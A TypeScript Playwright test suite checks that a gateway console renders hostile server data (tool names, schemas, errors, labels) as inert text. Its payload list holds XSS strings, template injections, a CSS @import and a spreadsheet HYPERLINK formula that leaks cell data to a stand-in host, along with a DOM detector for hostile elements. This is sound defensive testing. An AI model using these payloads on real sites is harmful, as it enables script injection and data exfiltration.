// A server fills every field that it can with markup, script, addresses, templates and what cannot be seen, and so do whoever labels keys and gives reasons,
// and whoever sends somebody a link to the console. On every page it is text: nothing runs, nothing is fetched from elsewhere, no element is theirs, what is
// not seen is written out, and a spreadsheet takes nothing for a formula.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, test } from 'node:test';
import type { Page } from 'playwright-core';
import { MISSING, visit } from '../console/visit.fixture.ts';
import type { Visit } from '../console/visit.fixture.ts';
import { approvalIn, at, META, modernAnswers, modernCall, startScriptedServer, textAt } from '../harness/index.ts';
import type { ScriptedServer } from '../harness/index.ts';

/** Where nobody may be asked for anything. */
const ELSEWHERE = 'http://127.0.0.1:9';
const UNSEEN = 'pay\u202egnp.exe\u200b\u2066';
const PAYLOADS = [
  '<img src=x onerror=alert(1)>',
  `"><script src=${ELSEWHERE}/x.js></script><svg onload=alert(2)>`,
  'javascript:alert(3)',
  'data:text/html,<script>alert(4)</script>',
  `[here](javascript:alert(5)) ![pixel](${ELSEWHERE}/pixel.png)`,
  "{{constructor.constructor('alert(6)')()}}${alert(7)}<%= alert(8) %>",
  `=HYPERLINK("${ELSEWHERE}/?"&A1,"total")`,
  `</style><style>@import '${ELSEWHERE}/x.css';</style><iframe srcdoc="<script>alert(9)</script>">`,
] as const;
const ALL = [...PAYLOADS, UNSEEN].join(' ');
const [MARKUP] = PAYLOADS;

/** A schema with something in each place that a person may read. */
const schema = {
  type: 'object',
  title: ALL,
  description: ALL,
  properties: Object.fromEntries(
    PAYLOADS.map((payload) => [payload, { type: 'string', description: payload, default: payload, enum: [payload] }]),
  ),
};
const hostileTool = (name: string): object => ({
  name,
  title: ALL,
  description: ALL,
  inputSchema: schema,
  annotations: { title: ALL },
  icons: [{ src: `${ELSEWHERE}/icon.svg` }, { src: 'javascript:alert(10)' }],
});
/** It is called, and fails in words of its own. */
const WORK = { name: 'work', inputSchema: { type: 'object', additionalProperties: true } };
const QUESTION = { ...WORK, name: 'question' };
const NAMES = [...PAYLOADS, UNSEEN, '__proto__'];

let server: ScriptedServer;
let here: Visit;
const requests: string[] = [];

before(async () => {
  if (MISSING !== undefined) return;
  const cached = { resultType: 'complete', ttlMs: 60_000, cacheScope: 'private' };
  const info = { name: ALL, title: ALL, version: MARKUP, websiteUrl: 'javascript:alert(11)', icons: [{ src: `${ELSEWHERE}/icon.png` }] };
  server = await startScriptedServer(
    modernAnswers({
      'server/discover': {
        ...cached,
        supportedVersions: ['2026-07-28', MARKUP],
        capabilities: { tools: {}, prompts: {}, resources: {} },
        instructions: ALL,
        _meta: { [META.server]: info },
      },
      'tools/list': { ...cached, tools: [WORK, QUESTION, ...NAMES.map(hostileTool)], _meta: { [META.server]: info } },
      'tools/call': { resultType: 'complete', isError: true, content: [{ type: 'text', text: ALL }], structuredContent: { [MARKUP]: ALL } },
      'prompts/list': {
        ...cached,
        prompts: NAMES.map((name) => ({ name, title: ALL, description: ALL, arguments: [{ name: MARKUP, description: ALL }] })),
      },
      'resources/list': {
        ...cached,
        resources: PAYLOADS.map((name) => ({ name, uri: 'javascript:alert(12)', title: ALL, description: ALL, mimeType: MARKUP })),
      },
      'resources/templates/list': { ...cached, resourceTemplates: [{ name: MARKUP, uriTemplate: 'data:text/html,{x}', description: ALL }] },
    }),
  );
  here = await visit({
    servers: { hostile: { url: server.url } },
    rules: [
      { name: 'people-decide', effect: 'ask', agents: ['*'], servers: ['hostile'], tools: ['question'] },
      { name: 'everything', effect: 'allow', agents: ['*'], servers: ['*'] },
    ],
    limits: { approvalWaitMs: 200 },
  });
  here.page.context().on('request', (request) => requests.push(request.url()));
  await fill();
});
after(async () => {
  await here?.end();
  await server?.close();
});

/** Everything that is on the pages: lists, calls that fail, a question, labels, reasons. */
async function fill(): Promise<void> {
  const { gateway } = here;
  const key = await gateway.addAgent('robot');
  const ask = (method: string, params: Readonly<Record<string, unknown>> = {}): ReturnType<typeof modernCall> =>
    modernCall(gateway.url('hostile'), method, params, { key, meta: { [META.client]: { name: ALL, title: ALL, version: MARKUP } } });
  for (const list of ['tools/list', 'prompts/list', 'resources/list', 'resources/templates/list']) await ask(list);
  // The tool says so itself; of the resource the server does.
  await ask('tools/call', { name: 'work', arguments: {} });
  const failing = ask('resources/read', { uri: 'javascript:alert(13)' });
  const taken = await Promise.race([server.take('resources/read'), failing.then(({ http }) => assert.fail(http.body))]);
  taken.reply(200, { jsonrpc: '2.0', id: at(taken.message, 'id'), error: { code: -32_000, message: ALL, data: { html: MARKUP } } });
  await failing;
  const asked = await ask('tools/call', { name: 'question', arguments: { [MARKUP]: ALL } });
  assert.notEqual(approvalIn(asked.http.body), '', asked.http.body);
  for (const name of PAYLOADS) await ask('tools/call', { name, arguments: {} });
  await modernCall(gateway.url('hostile'), 'tools/call', { name: MARKUP }, { key: 'sp_not-a-key' });
  const labelled = await gateway.cli('agents', 'key', 'robot', '--label', `${MARKUP} ${PAYLOADS[2]}`, '--output', 'json');
  assert.equal(labelled.code, 0, labelled.stderr);
  await gateway.addAgent('nobody');
  const locked = await gateway.cli('lockdown', 'agent', 'nobody', '--reason', PAYLOADS.slice(0, 4).join(' '), '--output', 'json');
  assert.equal(locked.code, 0, locked.stderr);
}

test('whoever names agents and people is held to names', { skip: MISSING }, async () => {
  for (const name of [MARKUP, UNSEEN]) {
    for (const what of [
      ['agents', 'add'],
      ['operators', 'add'],
    ]) {
      const { code } = await here.gateway.cli(...what, '--', name);
      assert.notEqual(code, 0, `${what.join(' ')} ${name}`);
    }
  }
});

const inAddress = encodeURIComponent(MARKUP);
const definition = (name: string): string => `/catalogue/definition?server=hostile&kind=tool&name=${encodeURIComponent(name)}`;
/** Every page, and addresses that a stranger may send. */
const PATHS: readonly string[] = [
  '/',
  '/live',
  '/approvals',
  '/agents',
  '/agents/robot',
  '/servers',
  '/servers/hostile',
  '/catalogue?view=all',
  '/catalogue?view=look-alikes',
  ...[PAYLOADS[1], UNSEEN, '__proto__'].map(definition),
  '/policies',
  '/policies?view=explain',
  '/limits',
  '/audit',
  '/audit?view=figures',
  '/settings',
  `/agents/${inAddress}`,
  `/servers/${inAddress}`,
  `/live?server=${inAddress}&search=${inAddress}`,
  `/audit?agent=${inAddress}&kind=${inAddress}&from=${inAddress}`,
  '/audit?entry=javascript:alert(14):1',
  `/${inAddress}`,
];

test('nothing of it runs on any page, and no element is theirs', { skip: MISSING }, async (t) => {
  const { page } = here;
  for (const path of PATHS) {
    await t.test(path, async () => {
      await page.goto(new URL(path, page.url()).href);
      await page.getByRole('heading', { level: 1 }).first().waitFor();
      await page.waitForLoadState('networkidle', { timeout: 500 }).catch(() => undefined); // a stream stays open
      assert.deepEqual(await strangers(page), []);
      here.assertQuiet();
    });
  }
  const origin = new URL(page.url()).origin;
  assert.deepEqual(
    requests.filter((url) => !url.startsWith(`${origin}/`) && !url.startsWith('blob:') && !url.startsWith('data:image/')),
    [],
  );
});

/** Elements that could do something and are none of the console's own. */
function strangers(page: Page): Promise<readonly string[]> {
  return page.evaluate<string[]>(`[...document.querySelectorAll('*')]
    .filter((one) =>
      [...one.attributes].some(({ name, value }) => name.startsWith('on') || name === 'srcdoc' || (/^(href|src|action|formaction|xlink:href)$/.test(name) && /^\\s*(javascript|data|vbscript):/i.test(value))) ||
      /^(iframe|object|embed|base|meta|form|img|style|script)$/i.test(one.localName) && !isOurs(one))
    .map((one) => one.outerHTML.slice(0, 200));
    function isOurs(one) {
      if (one.localName === 'script') return one.src.startsWith(location.origin + '/assets/');
      if (one.localName === 'meta') return one.parentElement === document.head && one.httpEquiv === '';
      if (one.localName === 'form') return !one.hasAttribute('action');
      // Libraries set styles by rules, not by text.
      if (one.localName === 'style') return !one.textContent.includes('@import');
      return false;
    }`);
}

test('it is shown as the text that it is, and what is not seen is written out', { skip: MISSING }, async () => {
  const { page } = here;
  await page.goto(new URL(definition(UNSEEN), page.url()).href);
  const heading = page.getByRole('heading', { level: 1 });
  await heading.filter({ hasText: 'pay' }).waitFor();
  const said = (await heading.textContent()) ?? '';
  for (const written of ['\\u{202e}', '\\u{200b}', '\\u{2066}']) assert.ok(said.includes(written), said);
  assert.ok(!/[\u202e\u200b\u2066]/u.test((await page.getByRole('main').textContent()) ?? ''));
  const text = page.getByRole('region', { name: 'Definition' });
  for (const payload of PAYLOADS.slice(0, 4)) await text.getByText(payload).first().waitFor();

  await page.goto(new URL('/servers/hostile', page.url()).href);
  await page.getByRole('grid', { name: 'Tools of hostile' }).getByText(MARKUP).first().waitFor();
  await page.goto(new URL('/agents/robot', page.url()).href);
  await page.getByText(`${MARKUP} ${PAYLOADS[2]}`).first().waitFor();
  await page.getByRole('button', { name: /locked/ }).click();
  const locks = page.getByRole('dialog');
  await locks.getByText(MARKUP).first().waitFor();
  assert.deepEqual(await strangers(page), []);
  await page.keyboard.press('Escape');
  here.assertQuiet();
});

test('a question and the story of a call show what strangers wrote, and it stays text', { skip: MISSING }, async () => {
  const { page } = here;
  await page.goto(new URL('/approvals', page.url()).href);
  await page.getByRole('grid', { name: 'Calls that wait' }).getByRole('row').filter({ hasText: 'robot' }).click();
  await page.getByRole('dialog').getByText(MARKUP).first().waitFor();
  assert.deepEqual(await strangers(page), []);
  await page.goto(new URL(`/audit?tool=${inAddress}`, page.url()).href);
  await page.getByRole('grid', { name: 'Records' }).getByRole('row').filter({ hasText: MARKUP }).first().click();
  await page.getByRole('dialog').getByText(MARKUP).first().waitFor();
  assert.deepEqual(await strangers(page), []);
  await page.keyboard.press('Escape');
  here.assertQuiet();
});

test('what is exported is safe to open', { skip: MISSING }, async () => {
  const { page } = here;
  await page.goto(new URL('/audit', page.url()).href);
  await page.getByRole('button', { name: 'Export' }).click();
  const dialog = page.getByRole('dialog', { name: 'Export the record' });
  const [download] = await Promise.all([page.waitForEvent('download'), dialog.getByRole('button', { name: 'Export' }).click()]);
  assert.match(download.suggestedFilename(), /^[\w.-]+\.csv$/);
  const csv = readFileSync(await download.path(), 'utf8');
  assert.ok(csv.includes('HYPERLINK'), 'it is in there');
  assert.doesNotMatch(csv, /(?:^|,)"?\s*[=+@]/mu);
  assert.doesNotMatch(csv, /[\u202e\u200b\u2066]/u);

  // An API answer that somebody opens by itself is no page.
  const answer = await page.request.get(new URL('/api/v1/records', page.url()).href);
  assert.match(answer.headers()['content-type'] ?? '', /^application\/json/);
  assert.equal(answer.headers()['x-content-type-options'], 'nosniff');
  assert.ok(textAt(answer.headers(), 'content-security-policy').includes("default-src 'none'"));
  here.assertQuiet();
});
